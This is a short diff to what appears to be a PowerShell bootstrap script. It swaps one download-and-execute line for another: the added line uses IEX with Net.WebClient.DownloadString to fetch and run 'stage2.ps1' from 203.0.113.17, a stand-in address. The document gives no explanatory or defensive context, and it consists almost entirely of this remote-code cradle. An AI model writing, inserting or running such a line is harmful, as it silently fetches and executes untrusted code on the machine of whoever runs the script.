@@ -1,2 +1,2 @@
-# bootstrap 5492 v4
-IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/inv.ps1')
+# run 9132 v4
+IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/stage2.ps1')
